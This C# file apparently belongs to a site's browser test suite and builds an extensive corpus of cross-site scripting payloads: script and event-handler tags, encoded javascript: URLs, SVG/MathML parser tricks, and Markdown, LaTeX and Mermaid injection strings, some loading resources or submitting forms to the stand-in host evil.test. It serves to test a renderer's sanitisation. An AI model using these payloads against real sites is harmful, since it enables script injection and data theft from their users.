using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;

namespace PlaybookSite.Tests.Browser;

/// <summary>
/// Texts that try to run a script, to send a request, or to leave a form or a style behind. Written by us after the
/// classes of public lists. Whatever runs calls <c>hit(number)</c>; whatever is sent goes to evil.test; whatever is left
/// is called evil.
/// </summary>
internal static partial class HostilePayloads
{
    /// <summary>Where an address may stand; % is the address.</summary>
    private static readonly string[] Places =
    [
        "[点我](%)", "[点我](<%> \"题\")", "<%>", "[点我][甲§n]⏎⏎[甲§n]: %", "![图](%)", "<a href=\"%\" class=evil>点我</a>", "[[%|点我]]",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:§", "JaVaScRiPt:§", "java␉script:§", "␁javascript:§", "javascript&colon;§", "&#106;avascript:§", "&#x6A;&#x61;vascript:§",
        "&#0000106avascript:§", "java&Tab;script:§", "java&NewLine;script:§", "javascript&#58;§", "javascript%3A§", "javascript://evil.test/%0A§",
        "vbscript:§", "data:text/html,<script>§</script>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>",
        "blob:null/evil-§", "//evil.test/§", "\\\\evil.test\\§", "⟦FEFF⟧javascript:§", "⟦200B⟧javascript:§",
    ];

    /// <summary>One a line. § runs; ⏎ ␉ ␁ ␀ are the characters that they show; ⟦FEFF⟧ is the character with that number.</summary>
    private const string Lines =
        """
        <script>§</script>
        <ScRiPt >§</sCrIpT >
        <script/x>§</script>
        <script src=//evil.test/a.js></script>
        <script type=module>§</script>
        <script⏎>§</script⏎>
        </script><script>§</script>
        <<script>§//<</script>
        <scr<script>ipt>§</scr</script>ipt>
        <img src=x onerror=§>
        <img src=x onerror="§" class=evil>
        <img/src=x/onerror=§>
        <img src=x:x onerror=§ //
        <img src=`x` onerror=`§`>
        <img ␉src=x⏎onerror=§>
        <img src=x onerror=&#104;it(§n)>
        <img src=//evil.test/pixel.png>
        <img srcset="//evil.test/2x.png 2x" src=x onerror=§>
        <image src=x onerror=§>
        <svg onload=§>
        <svg/onload=§//
        <svg><script>§</script></svg>
        <svg><script xlink:href=data:,§ />
        <svg><a xlink:href="javascript:§"><text y=20>点我</text></a></svg>
        <svg><animate onbegin=§ attributeName=x dur=1s>
        <svg><set attributeName=href to=javascript:§ /></svg>
        <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='§'/></svg>#x"/></svg>
        <svg><foreignObject><iframe srcdoc="<script>§</script>"></iframe></foreignObject></svg>
        <svg><style><img src=x onerror=§></style></svg>
        <svg><title><img src=x onerror=§></title></svg>
        <svg><desc><![CDATA[</desc><img src=x onerror=§>]]></svg>
        <svg><image href=//evil.test/svg.png></svg>
        <math><mtext><table><mglyph><style><img src=x onerror=§></style></mglyph></table></mtext></math>
        <math href="javascript:§">点我</math>
        <math><mi xlink:href="javascript:§">点我</mi></math>
        <math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:§">点我</maction></math>
        <math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>
        <math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><script>§</script></annotation-xml></semantics></math>
        <math><mi//xlink:href="data:x,<script>§</script>">
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=§>
        <math><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;"></math>
        <iframe src="javascript:§"></iframe>
        <iframe srcdoc="&lt;script&gt;§&lt;/script&gt;"></iframe>
        <iframe src=//evil.test/frame></iframe>
        <iframe onload=§></iframe>
        <frameset onload=§>
        <object data="javascript:§"></object>
        <object data="data:text/html,<script>§</script>"></object>
        <object data=//evil.test/o></object>
        <embed src="javascript:§">
        <embed src=//evil.test/e>
        <applet code="javascript:§">
        <base href="//evil.test/">
        <base href="javascript:§//">
        <meta http-equiv=refresh content="0;url=javascript:§">
        <meta http-equiv="refresh" content="0;url=//evil.test/refresh">
        <meta http-equiv=Content-Security-Policy content="default-src *">
        <link rel=stylesheet href=//evil.test/s.css>
        <link rel=preload as=script href=//evil.test/p.js>
        <link rel=prefetch href=//evil.test/p>
        <link rel=stylesheet href="data:text/css,*{display:none}">
        <style>@import '//evil.test/i.css';</style>
        <style>*{background:url(//evil.test/b.png)}</style>
        <style onload=§></style>
        <style></style onerror=§><img src=x onerror=§>
        <div style="background:url(//evil.test/d.png)" class=evil>块</div>
        <div style="background:url(javascript:§)">块</div>
        <div style="width:expression(§)">块</div>
        <p style="position:fixed;inset:0;background:red" class=evil>盖住</p>
        <div style="animation:spin 1s" onanimationstart=§>块</div>
        <form action=//evil.test/f name=evil><input name=evil autofocus onfocus=§><button name=evil>送</button></form>
        <form action="javascript:§" name=evil><input type=submit name=evil value=送></form>
        <form id=evil></form><button form=evil formaction="javascript:§" name=evil>按</button>
        <input name=evil onfocus=§ autofocus>
        <input name=evil type=image src=//evil.test/i.png formaction=javascript:§>
        <input name=evil type=hidden oncontentvisibilityautostatechange=§ style=content-visibility:auto>
        <textarea name=evil autofocus onfocus=§></textarea>
        </textarea><script>§</script>
        </title><script>§</script>
        </style><script>§</script>
        </noscript><script>§</script>
        <select name=evil autofocus onfocus=§><option>一</option></select>
        <keygen name=evil autofocus onfocus=§>
        <isindex name=evil type=image src=1 onerror=§>
        <video name=evil src=x onerror=§></video>
        <video name=evil poster=//evil.test/v.png></video>
        <video><source onerror=§></video>
        <audio src=x onerror=§></audio>
        <audio src=//evil.test/a.mp3 autoplay></audio>
        <details open ontoggle=§><summary>开</summary></details>
        <dialog open onclose=§ id=evil>窗</dialog>
        <body onload=§>
        <body background=//evil.test/body.png>
        <html onmouseover=§>
        <table background=//evil.test/t.png><td background=javascript:§>格</td></table>
        <marquee onstart=§>走</marquee>
        <a href=# onclick=§ class=evil>点我</a>
        <a onmouseover=§ class=evil>悬停</a>
        <a href=x onfocus=§ autofocus tabindex=1 id=evil>焦点</a>
        <a href="javas⟦00AD⟧cript:§">点我</a>
        <a href="jav&#x0A;ascript:§">点我</a>
        <a href="&#14;  javascript:§">点我</a>
        <a href="javascript:/*--></title></style></textarea></script>*/§">点我</a>
        <a href=//evil.test/ping ping=//evil.test/ping>点我</a>
        <a download href="data:text/html,<script>§</script>">下载</a>
        <div onpointerover=§ onmouseenter=§ class=evil>悬停</div>
        <b onclick=§ oncopy=§ tabindex=0 id=evil>粗</b>
        <div contenteditable onbeforeinput=§ onfocus=§ tabindex=0 id=evil>写</div>
        <p id=evil popover onbeforetoggle=§>弹</p>
        <area href="javascript:§" shape=default>
        <map name=evil><area href=javascript:§></map><img usemap=#evil src=x onerror=§>
        <noscript><p title="</noscript><img src=x onerror=§>">
        <template><script>§</script></template>
        <template id=evil><img src=x onerror=§></template>
        <xmp><p title="</xmp><img src=x onerror=§>"></xmp>
        <plaintext><script>§</script>
        <noembed><p title="</noembed><img src=x onerror=§>"></noembed>
        <listing>&lt;img src=x onerror=§&gt;</listing>
        <p><svg><p><style><g title="</style><img src=x onerror=§>">
        <table><caption><svg><title><style></caption><img src=x onerror=§></style></title></svg></table>
        <select><template><img src=x onerror=§></template></select>
        <a><svg><a><title><a href=x><img src=x onerror=§></a></title></a></svg></a>
        <!--><img src=x onerror=§>-->
        <!--[if gte IE 4]><script>§</script><![endif]-->
        <!-- --!><img src=x onerror=§> -->
        <![CDATA[<img src=x onerror=§>]]>
        <?xml-stylesheet href="javascript:§"?><img src=x onerror=§>
        <!DOCTYPE html [<!ENTITY evil "<script>§</script>">]>&evil;
        <%<img src=x onerror=§>%>
        " onmouseover="§" class="evil
        ' onmouseover='§' class='evil
        " autofocus onfocus=§ x="
        ' autofocus onfocus=§ x='
        "><img src=x onerror=§>
        '><img src=x onerror=§>
        --><script>§</script>
        ]]><script>§</script>
        `-§-`
        ${§}
        {{constructor.constructor('§')()}}
        '-§-'
        \";§;//
        \u003cimg src=x onerror=§\u003e
        \x3cscript\x3e§\x3c/script\x3e
        %3Cscript%3E§%3C/script%3E
        %253Cimg%20src%3Dx%20onerror%3D§%253E
        &lt;script&gt;§&lt;/script&gt;
        &amp;lt;img src=x onerror=§&amp;gt;
        &#60;img src=x onerror=§&#62;
        &#x3c;script&#x3e;§&#x3c;/script&#x3e;
        &#0000060svg onload=§&#0000062
        ＜script＞§＜/script＞
        ⟦FEFF⟧<script>§</script>
        ⟦202E⟧<img src=x onerror=§>⟦202C⟧
        <⟦200B⟧script>§</script>
        <s⟦0000⟧cript>§</script>
        <img src=x on⟦200D⟧error=§>
        <img src=x onerror=§⟦2028⟧>
        +ADw-script+AD4-§+ADw-/script+AD4-
        <x onclick=§ tabindex=0 id=evil>自造</x>
        <evil-element onfocus=§ tabindex=0>自造</evil-element>
        <slot name=evil onslotchange=§></slot>
        <portal src=//evil.test/p onload=§></portal>
        <fencedframe src=//evil.test/f></fencedframe>
        <script>§
        <img src=x onerror=§
        <a href="javascript:§">没有结尾
        <div title="没有结尾 onmouseover=§
        <style>没有结尾
        <b <script>§</script> class=evil>
        [点我](javascript:§ "题\" onmouseover=§ x=\"")
        [点我](x "\" onmouseover=\"§")
        [点我](x '"><img src=x onerror=§>')
        ![替"代 onerror=§ ](x "题\" onerror=\"§")
        ![<img src=x onerror=§>](x)
        ![x](x" onerror="§)
        ![图](//evil.test/picture.png)
        ![图](https://evil.test/picture.png "看不见")
        ![图][远§n]⏎⏎[远§n]: https://evil.test/ref.png "远"
        [![图](x" onerror="§)](javascript:§)
        [a](<javascript:§>)
        [a]( javascript:§ )
        [a](javascript&#x3A;§)
        [a](JAVASCRIPT&colon;§ 'b')
        [点我](data:text/html;base64,PHNjcmlwdD5oaXQoOTk5OSk8L3NjcmlwdD4=)
        [点我](#" onmouseover="§)
        [a]: <javascript:§> "题"⏎[a]
        <javascript:§>
        <http://evil.test/"onmouseover="§">
        <a@evil.test" onmouseover="§>
        https://evil.test/"onmouseover="§
        http://evil.test/'><img/src=x/onerror=§>
        www.evil.test/"><script>§</script>
        mailto:a@b.test?subject="><script>§</script>
        ```" onload="§⏎<script>§</script>⏎```
        ```html" onmouseover="§" class="evil⏎<b>§</b>⏎```
        ```js'><img src=x onerror=§>⏎x⏎```
        ~~~ {onclick="§" .evil}⏎x⏎~~~
        ``` <script>§</script>⏎x⏎```
        `"><img src=x onerror=§>`
        ``<script>`§`</script>``
        # 题 {#evil onclick="§" .evil}
        # <img src=x onerror=§>
        ## "><svg onload=§>
        题 <svg/onload=§>⏎===
        字{onmouseover="§"}
        ::: evil onclick="§"⏎字⏎:::
        ::: <script>§</script>⏎字⏎:::
        ::: 坏<img src=x onerror=§> 题⏎字⏎:::
        :::tip{title="<img src=x onerror=§>"}⏎字⏎:::
        :::warning{title=x onmouseover=§ class=evil}⏎字⏎:::
        :::danger[<img src=x onerror=§>]{onclick=§}⏎字⏎:::
        ::: tip [点我](javascript:§)⏎字⏎:::
        ::: tip <javascript:§> ![图](//evil.test/title.png)⏎字⏎:::
        ::: tabs#"onclick=§⏎@tab <img src=x onerror=§>⏎字⏎@tab:active [点我](javascript:§)#evil⏎字⏎:::
        !!! evil "<svg onload=§>"⏎    字
        !!! 坏"onmouseover=§ "题"⏎    字
        ???+ note "[点我](javascript:§) ![图](//evil.test/mkdocs.png)"⏎    字
        === "<img src=x onerror=§>"⏎    字
        === "[点我](javascript:§)"⏎    <script>§</script>
        > [!note]- <img src=x onerror=§>⏎> 字
        > [!bug]+ [点我](javascript:§)⏎> 字
        > [!note" onmouseover="§] 题⏎> 字
        | 甲 | 乙 |⏎|---|---|⏎| 1 | 2 | <img src=x onerror=§> | [点我](javascript:§) |
        | 甲 |⏎|---|⏎| `<img src=x onerror=§>\|` | $\|</math><img src=x onerror=§>$ |
        $$\overline{\text{<img src=x onerror=§>}}$$
        $$\cancel{\href{javascript:§}{x}} \\ \mathop{\text{<script>§</script>}}$$
        $$\mbox{</mtext><img src=x onerror=§>} \ref{<script>§</script>} \eqref{"onclick=§}$$
        $ x = "<img src=x onerror=§>" $
        ```latex⏎$<img src=x onerror=§>$⏎</code></pre><script>§</script>⏎```
        {::nomarkdown}<script>§</script>{:/}
        {: onclick="§" .evil}
        | <img src=x onerror=§> | " onclick="§ |⏎| :-: | --- |⏎| <script>§</script> | [a](javascript:§) |
        | a |⏎| --- {onclick=§} |⏎| </td><script>§</script> |
        脚注[^" onclick="§]⏎⏎[^" onclick="§]: 注
        脚注[^恶§n]⏎⏎[^恶§n]: <img src=x onerror=§> [a](javascript:§)
        术语⏎: <img src=x onerror=§>
        *[HTML]: <img src=x onerror=§>⏎HTML
        - [x] <img src=x onerror=§>
        - [ ] " onclick="§
        1. <svg onload=§>
        > [!WARNING] <img src=x onerror=§>⏎> 字
        > [!"><script>§</script>]⏎> 字
        > [!NOTE" onclick="§]⏎> 字
        [[<img src=x onerror=§>]]
        [["><script>§</script>|字]]
        [[runway|<img src=x onerror=§>]]
        [[runway" onclick="§]]
        [[javascript:§|点我]]
        [[../../javascript:§]]
        ==<mark onclick=§>==
        <sup onclick=§ tabindex=0 class=evil>上</sup>
        <SuP onmouseover="§">上</sUp>
        <kbd/onfocus=§ tabindex=0 autofocus id=evil>键</kbd>
        <b⏎onmouseover=§>粗</b>
        <br onclick=§ class=evil><br/onclick=§>
        <sup><script>§</script></sup>
        <u><img src=x onerror=§></u>
        <small><svg onload=§></small>
        <kbd>[点我](javascript:§)</kbd>
        [<mark>点我</mark>](javascript:§)
        <ins><sub><s><del><b><i>深<img src=x onerror=§></i></b></del></s></sub></ins>
        <b <script>§</script></b>
        <i></i onmouseover=§ class=evil>
        <u>没有结束 <kbd>"><svg onload=§>
        ## <mark>题<br>" onmouseover="§" class="evil</mark>
        | <sup>a</sup> | <b>b | </b> |⏎| --- | --- | --- |⏎| <kbd onclick=§>k</kbd> | 一<br>" onclick="§ | </td><s>§</s> |
        <table><tr><td onclick=§ class=evil>格</td><td><img src=x onerror=§></td></tr></table>
        <p align="center" onmouseover=§ class=evil>中<font color=red onclick=§>红</font></p>
        [[runway|<b>§</b><script>§</script>]]
        ![<sup>图</sup>" onerror="§](x)
        ~~<del onclick=§>~~
        **<b onclick=§>粗</b>**
        <http://a.test>⏎<script>§</script>
        \<script>§\</script>
        &#x5b;点我&#x5d;(javascript:§)
        ---⏎title: "<img src=x onerror=§>"⏎layout: javascript:§⏎---
        ---⏎code: !!js/function "function(){§}"⏎---
        +++⏎title = "<script>§</script>"⏎+++
        <!--more--><script>§</script>
        {% raw %}<script>§</script>{% endraw %}
        {{< script >}}§{{< /script >}}
        <Component :evil="§" v-html="'<img src=x onerror=§>'" />
        import evil from 'javascript:§'
        @[video](javascript:§)
        ![](https://evil.test/watch.mp4)
        $\href{javascript:§}{x}$
        $\href{java script:§}{x}$
        $\url{javascript:§}$
        $\unicode{<img src=x onerror=§>}$
        $\unicode[x" onclick="§]{65}$
        $\class{evil" onclick="§}{x}$
        $\cssId{evil}{x}$
        $\style{background:url(//evil.test/tex.png)}{x}$
        $\html{<img src=x onerror=§>}$
        $\htmlData{evil=§}{x}$
        $\htmlClass{evil}{x}$
        $\htmlId{evil}{x}$
        $\htmlStyle{color:red}{x}$
        $\includegraphics{//evil.test/tex.png}$
        $\text{<img src=x onerror=§>}$
        $\text{</mtext></math><script>§</script>}$
        $\require{html}\href{javascript:§}{x}$
        $\def\evil{<script>§</script>}\evil$
        $\toggle{x}{y}\endtoggle$
        $\tooltip{x}{<img src=x onerror=§>}$
        $\mathchoice{<svg onload=§>}{b}{c}{d}$
        $\verb|<img src=x onerror=§>|$
        $</math><img src=x onerror=§>$
        $x" onmouseover="§$
        $$⏎\begin{array}{<img src=x onerror=§>}x\end{array}⏎$$
        $$</script><script>§</script>$$
        $\undefined<img src=x onerror=§>$
        $\color{red" onclick="§}{x}$
        $\data{evil=§}{x}$
        $\char"3C script\char"3E§$
        ```math⏎\href{javascript:§}{x}⏎```
        ```mermaid⏎graph LR⏎ A[甲]-->B⏎ click A "javascript:§" "题"⏎```
        ```mermaid⏎graph LR⏎ A-->B⏎ click A call hit(§n)⏎```
        ```mermaid⏎graph LR⏎ A-->B⏎ click A href "javascript:§" _self⏎```
        ```mermaid⏎graph LR⏎ A["<img src=x onerror=§>"]-->B["<a href='javascript:§'>点我</a>"]⏎```
        ```mermaid⏎graph LR⏎ A-->|"<script>§</script>"|B⏎```
        ```mermaid⏎%%{init: {"securityLevel":"loose","htmlLabels":true}}%%⏎graph LR⏎ A["<img src=x onerror=§>"]⏎```
        ```mermaid⏎%%{init: {"themeCSS":"*{background:url(//evil.test/m.png)}"}}%%⏎graph LR⏎ A-->B⏎```
        ```mermaid⏎graph LR⏎ A-->B⏎ style A fill:url(//evil.test/m.png)⏎ classDef evil fill:red⏎ class A evil⏎```
        ```mermaid⏎graph LR⏎ subgraph "<svg onload=§>"⏎ A-->B⏎ end⏎```
        ```mermaid⏎---⏎title: "<img src=x onerror=§>"⏎config: {securityLevel: loose}⏎---⏎graph LR⏎ A-->B⏎```
        ```mermaid⏎sequenceDiagram⏎ A->>B: <img src=x onerror=§>⏎ link A: 板 @ javascript:§⏎```
        ```mermaid⏎pie title <img src=x onerror=§>⏎ "</text><script>§</script>" : 3⏎ "乙" : 4⏎```
        ```mermaid⏎gantt⏎ title <script>§</script>⏎ section 甲⏎ 事 :a, 2026-01-01, 3d⏎ click a href "javascript:§"⏎```
        ```mermaid⏎graph LR⏎ A@{ img: "//evil.test/m.png", label: "<img src=x onerror=§>" }⏎```
        ```mermaid⏎<script>§</script>⏎```
        """;

    /// <summary>All of them; the number is what they call <c>hit</c> with.</summary>
    public static IReadOnlyList<Payload> All { get; } =
    [
        .. Addresses.SelectMany((address, index) => new[] { index, index + 2, index + 4 }.Select(place => Places[place % Places.Length].Replace("%", address, StringComparison.Ordinal)))
            .Concat(Lines.Split('\n', StringSplitOptions.RemoveEmptyEntries))
            .Select((text, index) => new Payload(index + 1, Written(text, index + 1))),
    ];

    /// <summary>How many say their number in plain letters, and can be looked for in what a page sends.</summary>
    public static int Numbered { get; } = All.Count(payload => payload.Text.Contains($"hit({payload.Number})", StringComparison.Ordinal));

    /// <summary>As few groups as fit into fields of this length. None leaves a block open that would swallow the next.</summary>
    public static IReadOnlyList<IReadOnlyList<Payload>> Groups(int characters)
    {
        var groups = new List<IReadOnlyList<Payload>>();
        var (group, length) = (new List<Payload>(), 0);
        foreach (var payload in All)
        {
            if (group.Count > 0 && length + payload.Line.Length > characters)
                End();
            group.Add(payload);
            length += payload.Line.Length + 1;
        }

        if (group.Count > 0)
            End();
        return groups;

        void End()
        {
            groups.Add(group);
            (group, length) = ([], 0);
        }
    }

    private static string Written(string text, int number)
    {
        var digits = number.ToString(CultureInfo.InvariantCulture);
        var written = new StringBuilder(text)
            .Replace("§n", digits)
            .Replace("§", $"hit({digits})")
            .Replace('⏎', '\n').Replace('␉', '\t').Replace('␁', '\u0001')
            .ToString();
        return CodePoint.Replace(written, match => ((char)int.Parse(match.Groups[1].Value, NumberStyles.HexNumber, CultureInfo.InvariantCulture)).ToString());
    }

    [GeneratedRegex("⟦([0-9A-F]{4})⟧")]
    private static partial Regex CodePoint { get; }
}

/// <param name="Number">What it calls <c>hit</c> with.</param>
internal sealed record Payload(int Number, string Text)
{
    /// <summary>For fields of one line.</summary>
    public string Line => Text.Replace('\n', ' ');

    public string Cut(int characters) => Line.Length <= characters ? Line : Line[..characters];
}
